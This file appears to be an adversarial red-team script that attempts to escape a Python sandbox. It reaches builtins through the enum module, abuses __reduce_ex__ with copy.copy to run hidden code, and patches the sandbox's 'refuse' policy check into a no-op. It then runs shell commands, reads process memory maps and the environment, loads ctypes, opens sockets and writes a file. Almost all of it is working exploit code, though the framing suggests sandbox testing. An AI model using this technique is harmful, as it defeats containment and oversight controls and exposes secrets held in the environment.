# adversary round 1: p03_chain_sock_write
import enum, copy
b = enum.bltns
fake = enum.__file__.rsplit("/", 1)[0] + "/zz_payload.py"
SRC = '''
import sys, os
print("real sys:", sys, "real os:", os)
f = sys._getframe()
while f is not None and not (f.f_code.co_name == "main" and "install_policy" in f.f_globals):
    f = f.f_back
g = f.f_globals
g["refuse"] = lambda what: None
print("SHELL:", os.popen("id; echo shell-ok; pwd; ls -ld .").read())
print("MAPS:", open("/proc/self/maps").read()[:300])
print("ENVIRON:", open("/proc/self/environ", "rb").read()[:200])
exec("print('EXEC-OK', 6*7)")
import ctypes
print("CTYPES getpid:", ctypes.CDLL(None).getpid(), os.getpid())
import socket
for fam in (socket.AF_UNIX, socket.AF_INET):
    try:
        s = socket.socket(fam, socket.SOCK_STREAM); print("SOCKET:", s); s.close()
    except Exception as e:
        print("socket", fam, "failed:", repr(e))
try:
    s1, s2 = socket.socketpair(); print("SOCKETPAIR:", s1, s2)
except Exception as e:
    print("socketpair failed:", repr(e))
try:
    with open("pwn_cwd.txt", "w") as fh: fh.write("x")
    print("WROTE cwd file", os.path.abspath("pwn_cwd.txt"))
except Exception as e:
    print("cwd write failed:", repr(e))
'''
class R:
    def __init__(self, f, a):
        self.f = f
        self.a = a
    def __reduce_ex__(self, p):
        return (self.f, self.a)
code = copy.copy(R(b.compile, (SRC, fake, "exec")))
fn = copy.copy(R(type(lambda: 0), (code, {"__builtins__": b, "__name__": "x"})))
fn()

print("PWN" + "ED")
